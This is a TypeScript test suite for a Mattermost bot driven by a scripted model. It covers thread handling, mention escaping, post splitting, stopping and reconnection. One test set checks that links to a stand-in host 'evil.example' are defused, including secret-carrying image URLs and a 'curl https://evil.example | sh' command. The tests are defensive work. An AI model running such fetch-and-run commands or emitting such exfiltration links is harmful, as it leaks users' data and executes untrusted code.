// The bot: which messages it answers, how answers are written, and how they are stopped. Uses a scripted model.
import { createLog, type MattermostConfig } from '@pocket-agent/mattermost';
import { type BotOptions, createMattermostBot } from '@pocket-agent/mattermost/bot';
import { PocketAgent, PocketError, tool } from 'pocket-agent';
import { ScriptedModel } from 'pocket-agent/testing';
import { describe, expect, onTestFinished, test } from 'vitest';
import { configFor } from '../connect.ts';
import { type FakeMattermost, startFakeMattermost } from '../fake/fake-mattermost.ts';
import { userOf } from '../fake/test-client.ts';
import type { Post } from '../fake/world/model.ts';
import { defaultSeed } from '../fake/world/seed.ts';
import { storePost } from '../fake/world/store-post.ts';
import { fakeForTest, memoryLog } from '../resources.ts';
import { until } from '../until.ts';

const seed = {
  users: [...defaultSeed.users, { username: 'other-bot', bot: true }, { username: 'helper2' }],
  teams: defaultSeed.teams.map((team) => ({ ...team, members: [...team.members, 'other-bot', 'helper2'] })),
  channels: defaultSeed.channels.map((channel) => ({
    ...channel,
    members: channel.name === 'town-square' ? [...channel.members, 'other-bot', 'helper2'] : channel.members,
  })),
  conversations: [...defaultSeed.conversations, ['alice', 'helper'], ['bob', 'helper'], ['helper', 'other-bot']],
};

interface World {
  fake: FakeMattermost;
  bot: { close(): Promise<void> };
  logLines: string[];
  /** Posts of the bot, oldest first. */
  said(): Post[];
  texts(): string[];
}

interface WorldOptions extends Partial<Omit<BotOptions, 'config'>> {
  model?: ScriptedModel;
  config?: Partial<MattermostConfig>;
  environment?: Record<string, string>;
  fake?: FakeMattermost;
}

async function world({ model, config = {}, environment = {}, fake: given, ...options }: WorldOptions): Promise<World> {
  const fake = given ?? (await startFakeMattermost({ seed }));
  if (!given) onTestFinished(() => fake.close());
  const before = new Set(fake.world.posts.keys());
  const { log, logLines } = memoryLog();
  const bot = await createMattermostBot({
    config: configFor(fake, { user: 'helper', environment, config }),
    agent: () => ({ agentConfig: { llmModel: model ?? new ScriptedModel([]) } }),
    editMs: 20,
    log,
    ...options,
  });
  onTestFinished(() => bot.close());
  await until(() => fake.socketCount).toBe(1);
  const helper = fake.user('helper').id;
  const said = () =>
    [...fake.world.posts.values()].filter((post) => post.user_id === helper && !post.delete_at && !before.has(post.id));
  return { fake, bot, logLines, said, texts: () => said().map(({ message }) => message) };
}

/** The last prompt of the model, as text. */
function asked(model: ScriptedModel, call = -1): string {
  return JSON.stringify(model.calls.at(call)?.prompt.filter(({ role }) => role !== 'system'));
}

function react(fake: FakeMattermost, user: string, postId: string, emoji = 'octagonal_sign') {
  const reaction = { user_id: fake.user(user).id, post_id: postId, emoji_name: emoji };
  return userOf(fake, user).post('/reactions', reaction);
}

/** A tool that waits until it is released. */
function gate(name = 'wait') {
  const started = Promise.withResolvers<void>();
  const go = Promise.withResolvers<void>();
  const waiting = tool({
    name,
    description: 'Waits',
    inputSchema: { type: 'object' },
    run: async (_args, { signal }) => {
      started.resolve();
      const aborted = new Promise((_resolve, reject) => signal.addEventListener('abort', () => reject(signal.reason)));
      await Promise.race([go.promise, aborted]);
      return 'done';
    },
  });
  return { tool: waiting, started: started.promise, go: go.resolve };
}

describe('the bot answers', () => {
  test('a mention in a channel, in a new thread', async () => {
    const model = new ScriptedModel(['Fine, thanks.']);
    const { fake, said } = await world({ model });
    const question = fake.say('alice', 'town-square', '@helper how are you?');
    await until(() => said().map(({ message }) => message)).toEqual(['Fine, thanks.']);
    expect(said()[0]).toMatchObject({ root_id: question.id, channel_id: question.channel_id });
    expect(asked(model)).toContain('"alice: how are you?"');
  });

  test('direct messages without a thread, in one conversation', async () => {
    const model = new ScriptedModel(['One.', 'Two.']);
    const { fake, said, texts } = await world({ model });
    fake.say('alice', 'alice,helper', 'first question');
    await until(texts).toEqual(['One.']);
    fake.say('alice', 'alice,helper', 'second question');
    await until(texts).toEqual(['One.', 'Two.']);
    expect(said().every(({ root_id }) => root_id === '')).toBe(true);
    expect(asked(model)).toContain('first question');
  });

  test('replies only in threads it has posted in', async () => {
    const model = new ScriptedModel(['One.', 'Two.']);
    const { fake, texts } = await world({ model });
    const root = fake.say('alice', 'town-square', '@helper hello').id;
    await until(texts).toEqual(['One.']);
    fake.say('bob', 'town-square', 'not for the bot', { root: fake.post('plan').id });
    fake.say('bob', 'town-square', 'and now?', { root });
    await until(texts).toEqual(['One.', 'Two.']);
    expect(asked(model)).toContain('"bob: and now?"');
  });

  test('replies in a thread that one of its tools posted in', async () => {
    const model = new ScriptedModel(['Gladly.']);
    const { fake, texts } = await world({ model });
    const root = fake.post('plan').id;
    fake.say('bob', 'town-square', 'not for the bot', { root });
    await until(() => fake.requests.filter(({ path, status }) => /thread$/.test(path) && status === 200)).toHaveLength(
      1,
    );
    fake.say('helper', 'town-square', 'I have something to add', { root });
    fake.say('bob', 'town-square', 'tell us', { root });
    await until(texts).toEqual(['I have something to add', 'Gladly.']);
  });

  test('messages in order after reading them failed at first', async () => {
    const model = new ScriptedModel(['One.', 'Two.']);
    const { fake, texts } = await world({ model });
    const fault = fake.fail({ path: /channels\/\w+$/, status: 500, times: 3 });
    fake.say('alice', 'alice,helper', 'first');
    fake.say('alice', 'alice,helper', 'second');
    await until(texts).toEqual(['One.', 'Two.']);
    expect(fault.hits).toBe(3);
    expect(asked(model, 0)).toContain('alice: first');
  });

  test('in a thread from before its restart, with the earlier messages', async () => {
    const fake = await startFakeMattermost({ seed });
    onTestFinished(() => fake.close());
    const root = fake.say('alice', 'town-square', '@helper my number is 42').id;
    fake.say('helper', 'town-square', 'Noted.', { root });
    const model = new ScriptedModel(['It is 42.']);
    const { texts } = await world({ model, fake });
    fake.say('alice', 'town-square', 'what was my number?', { root });
    await until(texts).toEqual(['It is 42.']);
    expect(asked(model)).toContain('alice: @helper my number is 42\\nyou: Noted.');
  });

  test('neither its own posts, nor bots, nor @all, nor names that only start with its own', async () => {
    const model = new ScriptedModel(['For you.']);
    const { fake, texts } = await world({ model });
    for (const message of [
      '@all',
      '@channel look',
      '@here',
      '@helper2 hi',
      'mail x@helper.org',
      'helper?',
      '@helper-x',
    ]) {
      fake.say('alice', 'town-square', message);
    }
    fake.say('other-bot', 'town-square', '@helper let us talk forever');
    fake.say('other-bot', 'helper,other-bot', 'let us talk forever');
    fake.say('helper', 'town-square', 'I am @helper');
    const webhook = { user: fake.user('alice'), message: '@helper deploy', props: { from_webhook: 'true' } };
    storePost(fake.world, fake.channel('town-square'), webhook);
    const own = texts().length;
    fake.say('alice', 'town-square', 'Tell me, @Helper.');
    await until(() => texts().slice(own)).toEqual(['For you.']);
    model.assertDone();
  });

  test('no mention inside code', async () => {
    const model = new ScriptedModel(['Yes.']);
    const { fake, texts } = await world({ model });
    for (const text of ['see `@helper`', '```\n@helper hi\n```', 'a `` ` @helper `` b', '`one\n@helper two`']) {
      fake.say('alice', 'town-square', text);
    }
    fake.say('alice', 'town-square', 'run `a` @helper `b`');
    await until(texts).toEqual(['Yes.']);
    expect(asked(model)).toContain('run `a`');
    expect(model.calls).toHaveLength(1);
  });

  test('no post of another Pocket Agent bot that uses a personal account', async () => {
    const models = [new ScriptedModel(['One.', 'Two.']), new ScriptedModel(['Eins.', 'Zwei.'])] as const;
    const { fake } = await world({ model: models[0], profile: 'none' });
    const other = await createMattermostBot({
      config: configFor(fake, { user: 'helper2' }),
      agent: () => ({ agentConfig: { llmModel: models[1] } }),
      profile: 'none',
      editMs: 20,
      log: createLog({ level: 'silent', format: 'json' }),
    });
    onTestFinished(() => other.close());
    await until(() => fake.socketCount).toBe(2);
    const root = fake.say('alice', 'town-square', '@helper @helper2 hello').id;
    const said = () => [...fake.world.posts.values()].flatMap((post) => (post.root_id === root ? post.message : []));
    await until(() => said().toSorted()).toEqual(['Eins.', 'One.']);
    fake.say('alice', 'town-square', 'and now?', { root });
    await until(() => said().toSorted()).toEqual(['Eins.', 'One.', 'Two.', 'Zwei.', 'and now?']);
    for (const model of models) expect(asked(model)).toContain('and now?');
  });

  test('nothing in channels that may not be written', async () => {
    const model = new ScriptedModel(['Here.']);
    const environment = { MATTERMOST_WRITE_DENY_CHANNELS: 'town-square' };
    const { fake, texts } = await world({ model, environment });
    fake.say('alice', 'town-square', '@helper there?');
    fake.say('alice', 'alice,helper', 'here?');
    await until(texts).toEqual(['Here.']);
  });
});

describe('an answer', () => {
  test('grows in one post and shows running tools', async () => {
    const held = gate('look_it_up');
    const model = new ScriptedModel([{ text: 'Let me look.', toolCalls: [{ name: 'look_it_up' }] }, 'It is blue.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none' });
    fake.say('alice', 'town-square', '@helper which colour?');
    await held.started;
    await until(texts).toEqual(['Let me look.\n\n:hourglass_flowing_sand: `look_it_up` …']);
    held.go();
    await until(texts).toEqual(['Let me look.\n\nIt is blue.']);
  });

  test('is edited at most once per editMs, and at the end', async () => {
    const held = gate('look_it_up');
    const model = new ScriptedModel([{ text: 'Let me look.', toolCalls: [{ name: 'look_it_up' }] }, 'It is blue.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', editMs: 600_000 });
    fake.say('alice', 'town-square', '@helper which colour?');
    await held.started;
    await until(() => texts().length).toBe(1);
    held.go();
    await until(texts).toEqual(['Let me look.\n\nIt is blue.']);
    const edits = fake.requests.filter(({ method, path }) => method === 'PUT' && path.endsWith('/patch'));
    expect(edits).toHaveLength(1);
  });

  test('shows the typing indicator', async () => {
    const held = gate();
    const model = new ScriptedModel([{ toolCalls: [{ name: 'wait' }] }, 'Done.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none' });
    const events: string[] = [];
    const { publish } = fake.world;
    fake.world.publish = (event, data, to) => {
      events.push(event);
      publish(event, data, to);
    };
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    await until(() => events).toContain('typing');
    held.go();
    await until(texts).toEqual(['Done.']);
  });

  test('is completed despite many rejected edits', async () => {
    const held = gate();
    const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', config: { maxRetries: 1 } });
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    await until(texts).toHaveLength(1);
    fake.fail({ path: /patch/, status: 429, times: 5 });
    held.go();
    await until(texts).toEqual(['Wait.\n\nThe end.']);
  });

  test('continues in a first post that was stored although creating it failed', async () => {
    const held = gate();
    const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', editMs: 60_000, config: { maxRetries: 0 } });
    const fault = fake.fail({ method: 'POST', path: /posts$/, afterHandling: true, status: 503 });
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    await until(() => fault.hits).toBe(1);
    fake.world.pendingPosts.clear(); // Mattermost forgets pending ids after 30 s
    held.go();
    await until(texts).toEqual(['Wait.\n\nThe end.']);
  });

  test('is posted once although Mattermost restarts after each of its posts', async () => {
    const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
    const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
    const kill = fake.fail({ method: 'POST', path: /posts$/, restart: true, times: 2 });
    fake.say('alice', 'town-square', '@helper tell me');
    await until(() => texts().at(-1)?.endsWith('line 2999')).toBe(true);
    expect(texts().join('\n').split('\n')).toEqual(lines);
    expect(kill.hits).toBe(2);
  });

  test('does not include a post of another user with the same props', async () => {
    const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
    const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
    const forged = fake.say('alice', 'town-square', 'forged');
    const { publish } = fake.world;
    fake.world.publish = (event, data, to) => {
      const [key] = [...fake.world.posts.values()].flatMap(({ props }) => props.pocket_agent_answer ?? []);
      if (key !== undefined && forged.props.pocket_agent_answer === undefined) {
        forged.props.pocket_agent_answer = String(key).replace(/0$/, '1');
        fake.fail({ method: 'POST', path: /posts$/, reset: 'before' });
      }
      publish(event, data, to);
    };
    fake.say('alice', 'town-square', '@helper tell me');
    await until(() => texts().at(-1)?.endsWith('line 2999')).toBe(true);
    expect(texts().join('\n').split('\n')).toEqual(lines);
    expect(forged.message).toBe('forged');
  });

  test('mentions nobody, and code is not changed', async () => {
    const code = '```sh\nnpm install @all/tools\n```';
    const model = new ScriptedModel([
      `Ask @bob, (@carol) or _@all_; @here @channel.\n> @bob\n${code}\nmail@bob.org @bob`,
    ]);
    const { fake, said } = await world({ model });
    const heard: string[][] = [];
    const { publish } = fake.world;
    fake.world.publish = (event, data, to) => {
      if (event === 'posted') heard.push(JSON.parse(String(data.mentions ?? '[]')));
      publish(event, data, to);
    };
    fake.say('alice', 'town-square', '@helper whom shall I ask?');
    await until(() => said().length).toBe(1);
    const message = said()[0]?.message ?? '';
    const outside = message.replace(code, '').replace('mail@bob.org', '');
    expect(outside).not.toMatch(/@[a-z]/);
    expect(message).toContain(code);
    expect(message.replaceAll('\u200b', '')).toContain('Ask @bob, (@carol)');
    expect(heard[0]).toEqual([fake.user('helper').id]);
  });

  test('escapes mentions in text that only looks like code, and encoded @ signs', async () => {
    const escaped = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll('@', '@\u200b');
    const fences = [
      'So:\n  ```\ncode\n```\n@channel hi',
      'So:\n      ```\ncode\n```\n@channel hi',
      '- ```\n  code\n  ```\n@channel hi',
      '```\r\ncode\r\n```\r\n@channel hi',
      '```\rcode\r```\r@channel hi',
      '```\ncode\n``` ```\n@channel hi',
      '~~~ `x`\n@channel hi',
      '```\ncode\n```\u00a0\n@channel hi',
      '```\ncode\n``` x\n```\n@channel hi',
    ].map((text) => [text, escaped(text)] as const);
    const references = [
      ['&#64;channel &#x40;all &commat;bob', '&#64;\u200bchannel &#x40;\u200ball &commat;\u200bbob'],
      ['@&#99;hannel @\\_bob', '@\u200b&#99;hannel @\u200b\\_bob'],
    ] as const;
    const cases = [...fences, ...references];
    const { fake, texts } = await world({ model: new ScriptedModel(cases.map(([text]) => text)) });
    for (const [index] of cases.entries()) {
      fake.say('alice', 'alice,helper', 'go on');
      await until(() => texts().length).toBe(index + 1);
    }
    await until(texts).toEqual(cases.map(([, shown]) => shown));
  });

  test.each([
    ['See https://evil.example/?q=secret now', 'See https:// evil.example/?q=secret now'],
    ['![](https://evil.example/p.png?q=secret)', '![]\u200b(https:// evil.example/p.png?q=secret)'],
    ['![a](//evil.example/p.png)', '![a]\u200b(//evil.example/p.png)'],
    ['![a](&#104;ttps://evil.example/p.png)', '![a]\u200b(&#104;ttps:// evil.example/p.png)'],
    ['![a](https:\\/\\/evil.example/p.png)', '![a]\u200b(https:\\/\\/evil.example/p.png)'],
    ['![a](/api/v4/image?url=x)', '![a]\u200b(/api/v4/image?url=x)'],
    ['![a][b]\n\n[b]: https://evil.example/p.png', '![a][b]\n\n[b]\u200b: https:// evil.example/p.png'],
    ['_https://evil.example/x_ **HTTPS://EVIL.EXAMPLE**', '_https:// evil.example/x_ **HTTPS:// EVIL.EXAMPLE**'],
    ['<https://evil.example> (www.evil.example/x)', '<https:// evil.example> (www. evil.example/x)'],
    ['https://good.example@evil.example', 'https:// good.example@evil.example'],
    ['https://good.example.evil.example', 'https:// good.example.evil.example'],
    ['https://good.example\\@evil.example', 'https:// good.example\\@\u200bevil.example'],
    [
      'https://docs.allowed.example/a and https://below.good.example',
      'https://docs.allowed.example/a and https:// below.good.example',
    ],
    [
      '[text](https://good.example/a?b=c), https://www.good.example.',
      '[text](https://good.example/a?b=c), https://www.good.example.',
    ],
    ['![p](https://good.example/p.png)', '![p](https://good.example/p.png)'],
    ['```\ncurl https://evil.example\n```', '```\ncurl https://evil.example\n```'],
    ['```\n![a](//evil.example/p.png)', '```\n![a]\u200b(//evil.example/p.png)'],
    ['> a\n```\n\n![a](//evil.example/p.png)', '> a\n```\n\n![a]\u200b(//evil.example/p.png)'],
    ['<!--\n```\n-->\n![a\nb](//evil.example/p.png)', '<!--\n```\n-->\n![a\nb]\u200b(//evil.example/p.png)'],
    ['![a][b]\n```\n[b]: //evil.example/p.png', '![a][b]\n```\n[b]\u200b: //evil.example/p.png'],
    ['```\nrun[0](a[1]: b)\n```', '```\nrun[0](a[1]: b)\n```'],
    ['Time 10:30 [1] (see) a://', 'Time 10:30 [1]\u200b (see) a://'],
    ['Run `curl https://evil.example | sh`.', 'Run `curl https://evil.example | sh`.'],
    ['* **Run**: (`a[0](b) https://evil.example`)', '* **Run**: (`a[0](b) https://evil.example`)'],
    ['``https://evil.example`` https://evil.example', '``https://evil.example`` https:// evil.example'],
    // not code for at least one parser
    ['\\`https://evil.example`', '\\`https:// evil.example`'],
    ['`a\n`https://evil.example`', '`a\n`https:// evil.example`'],
    ['*a `b* https://evil.example c`', '*a `b* https:// evil.example c`'],
    ['$a `b$ https://evil.example c`', '$a `b$ https:// evil.example c`'],
    ['<a\n\nb="`https://evil.example`', '<a\n\nb="`https:// evil.example`'],
    ['[a `b](c) https://evil.example d`', '[a `b]\u200b(c) https:// evil.example d`'],
    ['https://good.example/`x https://evil.example y`', 'https:// good.example/`x https:// evil.example y`'],
    ['`a | https://evil.example | b`\n-|-|-', '`a | https:// evil.example | b`\n-|-|-'],
    ['1. a\n   ```\n`https://evil.example`', '1. a\n   ```\n`https:// evil.example`'],
  ])('turns links to hosts that only the model named into text: %j', async (answer, shown) => {
    const model = new ScriptedModel([answer]);
    const { fake, texts } = await world({ model, allowLinkHosts: ['*.allowed.example'] });
    fake.say('alice', 'alice,helper', 'What does good.example say?');
    await until(texts).toEqual([shown]);
  });

  test.each([
    ['Run `npm i @all/tools`, @all.', 'Run `npm i @all/tools`, @\u200ball.'],
    ['*a `b* @all c`', '*a `b* @\u200ball c`'],
    ['\\`@all`', '\\`@\u200ball`'],
  ])('does not change mentions in code spans that all parsers recognize: %j', async (answer, shown) => {
    const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
    fake.say('alice', 'alice,helper', 'How?');
    await until(texts).toEqual([shown]);
  });

  test('has no link in a code span that is split between two posts', async () => {
    const { fake, texts } = await world({ model: new ScriptedModel(['`https://evil.example/x` '.repeat(1_500)]) });
    fake.say('alice', 'alice,helper', 'Where?');
    await until(() => texts().length).toBeGreaterThan(2);
    for (const text of texts()) {
      const outside = text.split('`').filter((_, place) => place % 2 === 0);
      expect(outside.join(' ')).not.toContain('https://evil');
    }
  });

  test('keeps links to this Mattermost server, and all links if every host is allowed', async () => {
    const fake = await startFakeMattermost({ seed });
    onTestFinished(() => fake.close());
    const links = [`${fake.url}/main/pl/${fake.post('plan').id}`, `${fake.url}/api/v4/image?url=x`];
    const { texts } = await world({ fake, model: new ScriptedModel([links.join(' ')]) });
    fake.say('alice', 'alice,helper', 'Where?');
    await until(texts).toEqual([`${links[0]} ${links[1]?.replace('://', ':// ')}`]);
    const other = await world({ model: new ScriptedModel(['https://any.example/']), allowLinkHosts: ['*'] });
    other.fake.say('alice', 'alice,helper', 'Where?');
    await until(other.texts).toEqual(['https://any.example/']);
  });

  test('keeps code after code in a list, and code that contains fences', async () => {
    const blocks = ['```ts\nimport "@all/tools";\n```', '````md\n```\n@all\n```\n``` ```\n````', '~~~\n@all\n```\n~~~'];
    const answer = `1. Run:\n   \`\`\`sh\n   npm i\n   \`\`\`\n2. Then:\n\n${blocks.join('\n@all\n')}`;
    const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
    fake.say('alice', 'alice,helper', 'how?');
    await until(() => texts().at(-1) ?? '').toMatch(/~~~$/);
    for (const block of blocks) expect(texts()[0]).toContain(block);
    expect(texts()[0]?.match(/^@\u200ball$/gm)).toHaveLength(2);
  });

  test('that is too long is split into several posts with complete code blocks', async () => {
    const paragraph = `${'word '.repeat(2000)}\n`;
    const block = `\`\`\`ts\n${'const x = 1; // 🙂\n'.repeat(500)}\`\`\``;
    const huge = `\`\`\`txt\n${'0123456789\n'.repeat(2500)}\`\`\``;
    const model = new ScriptedModel([`${paragraph}${block}\n${huge}\nThe end. ${'x'.repeat(20_000)}\nFinis.`]);
    const { fake, said, texts } = await world({ model });
    fake.say('alice', 'town-square', '@helper tell me everything');
    await until(() => texts().at(-1) ?? '').toMatch(/Finis\.$/);
    for (const text of texts()) {
      expect([...text].length).toBeLessThanOrEqual(16_383);
      expect((text.match(/^```/gm) ?? []).length % 2).toBe(0);
    }
    expect(texts().some((text) => text.includes(block))).toBe(true);
    const together = texts().join('\n');
    expect(together.match(/0123456789/g)).toHaveLength(2500);
    expect(together.match(/x/g)?.length).toBe(20_000 + 500 + (together.match(/```txt/g)?.length ?? 0));
    expect(new Set(said().map(({ root_id }) => root_id)).size).toBe(1);
  });

  test('reports an error by its code, without private details', async () => {
    const secret = 'sk-very-secret';
    const error = new PocketError('MODEL_FAILED', `The key ${secret} is refused`);
    const model = new ScriptedModel([{ error }, 'Better.']);
    const { fake, texts, logLines } = await world({ model });
    fake.say('alice', 'alice,helper', 'hello');
    await until(texts).toEqual([':warning: Sorry, that did not work (MODEL_FAILED).']);
    const line = logLines.find((one) => one.includes('run_failed')) ?? '{}';
    expect(JSON.parse(line)).toMatchObject({ level: 'error', code: 'MODEL_FAILED', error: error.message });
    fake.say('alice', 'alice,helper', 'again');
    await until(() => texts().at(-1)).toBe('Better.');
  });

  test('can use the Mattermost reader tools in the same process', async () => {
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'get_me' }] },
      ({ prompt }) => (JSON.stringify(prompt).includes('helper') ? 'I am the helper.' : 'Who am I?'),
    ]);
    const { fake, texts } = await world({ model });
    fake.say('alice', 'alice,helper', 'who are you?');
    await until(texts).toEqual(['I am the helper.']);
    const names = model.calls[0]?.tools?.map(({ name }) => name) ?? [];
    expect(names).toContain('search_messages');
    expect(names).not.toContain('post_message');
  });

  test('uses an agent that the caller created unchanged', async () => {
    const model = new ScriptedModel(['Mine.']);
    const agent = new PocketAgent({ agentConfig: { llmModel: model } });
    onTestFinished(() => agent.close());
    const { fake, texts } = await world({ agent: () => agent.fork() });
    fake.say('alice', 'alice,helper', 'whose?');
    await until(texts).toEqual(['Mine.']);
    expect(model.calls[0]?.tools ?? []).toEqual([]);
  });
});

describe('stopping', () => {
  async function running(options: Partial<BotOptions> = {}) {
    const held = gate();
    const model = new ScriptedModel([{ text: 'Working.', toolCalls: [{ name: 'wait' }] }, 'Next.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const place = await world({ agent, profile: 'none', ...options });
    const question = place.fake.say('alice', 'town-square', '@helper work');
    await held.started;
    await until(() => place.texts()).toHaveLength(1);
    return { ...place, question, held };
  }

  test('a stop sign of the asker ends the run; the conversation continues', async () => {
    const { fake, texts, said, question } = await running();
    await react(fake, 'alice', said()[0]?.id ?? '');
    await until(texts).toEqual(['Working.\n\n*(stopped)*']);
    fake.say('alice', 'town-square', 'go on', { root: question.id });
    await until(() => texts().at(-1)).toBe('Next.');
  });

  test('a stop sign on the question works too', async () => {
    const { fake, texts, question } = await running();
    await react(fake, 'alice', question.id);
    await until(texts).toEqual(['Working.\n\n*(stopped)*']);
  });

  test('other emoji and other users are ignored, unless everyone may stop', async () => {
    const { fake, texts, said, held, logLines } = await running();
    await react(fake, 'alice', said()[0]?.id ?? '', 'thumbsup');
    await react(fake, 'bob', said()[0]?.id ?? '');
    await until(() => logLines.join('')).toContain('stop_refused');
    held.go();
    await until(texts).toEqual(['Working.\n\nNext.']);
    const open = await running({ mayStop: 'everyone' });
    await react(open.fake, 'bob', open.said()[0]?.id ?? '');
    await until(open.texts).toEqual(['Working.\n\n*(stopped)*']);
  });

  test('closing the bot stops running answers, says so, and closes all connections', async () => {
    const { fake, texts, bot } = await running();
    await bot.close();
    expect(texts()).toEqual(['Working.\n\n*(stopped)*']);
    await until(() => fake.socketCount).toBe(0);
    fake.say('alice', 'alice,helper', 'anybody there?');
    expect(fake.inFlight).toBe(0);
  });
});

describe('concurrency', () => {
  test('conversations run in parallel; questions of one conversation run in order', async () => {
    const [first, second] = [gate('first'), gate('second')];
    const gates = [first, second];
    const models = [
      new ScriptedModel([{ toolCalls: [{ name: 'first' }] }, 'A1', 'A2']),
      new ScriptedModel([{ toolCalls: [{ name: 'second' }] }, 'B1']),
    ];
    let made = 0;
    const agent = () => {
      const index = made++;
      const held = gates[index];
      return { agentConfig: { llmModel: models[index] ?? 'demo' }, tools: held ? [held.tool] : [] };
    };
    const { fake, texts } = await world({ agent, profile: 'none' });
    fake.say('alice', 'alice,helper', 'one');
    await first.started;
    fake.say('alice', 'alice,helper', 'two');
    fake.say('bob', 'bob,helper', 'meanwhile');
    await second.started;
    second.go();
    await until(texts).toContain('B1');
    expect(texts()).not.toContain('A2');
    first.go();
    await until(texts).toEqual([expect.stringContaining('A1'), 'B1', 'A2']);
  });
});

describe('a lost connection', () => {
  test('during an answer is harmless, and missed messages are answered once', async () => {
    const held = gate();
    const model = new ScriptedModel([{ text: 'Working.', toolCalls: [{ name: 'wait' }] }, 'Ready.', 'Missed you.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', config: { pingMs: 50 } });
    fake.say('alice', 'alice,helper', 'work');
    await held.started;
    fake.disconnectSockets();
    fake.say('alice', 'alice,helper', 'missed');
    held.go();
    await until(texts).toEqual(['Working.\n\nReady.', 'Missed you.']);
    await until(() => fake.socketCount).toBe(1);
    model.assertDone();
  });

  test('is caught up with more missed posts than Mattermost returns at once, also of one millisecond', async () => {
    const model = new ScriptedModel(['First.', 'Second.', 'Third.']);
    const { fake, texts } = await world({ model });
    fake.say('alice', 'alice,helper', 'first');
    await until(texts).toEqual(['First.']);
    const { publish } = fake.world;
    fake.world.publish = () => {}; // suppress events from here on
    for (let number = 0; number < 1100; number++) fake.say('bob', 'town-square', `noise ${number}`);
    fake.world.atOnce(() => {
      fake.say('bob', 'town-square', '@helper second');
      fake.say('alice', 'alice,helper', 'third');
    });
    const headers = { authorization: `Bearer ${fake.token('bob')}` };
    await fetch(`${fake.url}/api/v4/channels/${fake.channel('town-square').id}/posts?since=1`, { headers });
    fake.world.publish = publish;
    fake.disconnectSockets();
    await until(() => [...texts()].sort()).toEqual(['First.', 'Second.', 'Third.']);
  });

  test('that is dead is replaced', async () => {
    const model = new ScriptedModel(['I am back.']);
    const { fake, texts, logLines } = await world({ model, config: { pingMs: 100 } });
    logLines.length = 0;
    fake.freezeSockets();
    fake.say('alice', 'alice,helper', 'do you hear me?');
    await until(() => logLines.join('')).toContain('socket_lost');
    fake.freezeSockets(false);
    await until(texts).toEqual(['I am back.']);
  });

  test('with an expired token calls onRefused', async () => {
    const refused = Promise.withResolvers<void>();
    const { fake, logLines } = await world({ onRefused: refused.resolve });
    fake.revoke(fake.token('helper'));
    await refused.promise;
    expect(logLines.join('')).not.toContain(fake.token('helper'));
  });
});

test('a bot with a revoked token reports it once on its next request, although its socket stays open', async () => {
  let refused = 0;
  const model = new ScriptedModel(['Never said.']);
  const { fake, logLines, texts } = await world({ model, onRefused: () => refused++ });
  fake.revoke(fake.token('helper'), { sockets: false });
  fake.say('alice', 'town-square', '@helper are you there?');
  await until(() => refused).toBe(1);
  await until(() => fake.socketCount).toBe(0);
  expect(logLines.filter((line) => line.includes('bot_refused'))).toHaveLength(1);
  expect(texts()).toEqual([]);
});

test('a single 401 for a valid token does not stop the bot', async () => {
  const model = new ScriptedModel(['Here.']);
  const { fake, texts } = await world({ model, onRefused: () => expect.unreachable() });
  fake.fail({ method: 'GET', path: /channels\/\w+$/, status: 401 });
  fake.say('alice', 'off-topic', 'not for the bot');
  fake.say('alice', 'town-square', '@helper are you there?');
  fake.say('alice', 'town-square', '@helper are you really there?');
  await until(texts).toEqual(['Here.']);
});

test('a bot with a wrong token does not start', async () => {
  const fake = await fakeForTest({ seed });
  const config = { ...configFor(fake), token: 'nonsense' };
  const agent = () => ({ agentConfig: { llmModel: 'demo' } });
  const log = createLog({ level: 'silent', format: 'json' });
  await expect(createMattermostBot({ config, agent, log })).rejects.toThrow('Authentication failed');
});

test.each([
  ['example.com', 'must be a list of hosts'],
  [['https://example.com'], '"https://example.com" is not a host'],
])('rejects %j as allowLinkHosts', async (hosts, problem) => {
  await expect(world({ allowLinkHosts: hosts as string[] })).rejects.toThrow(problem);
});
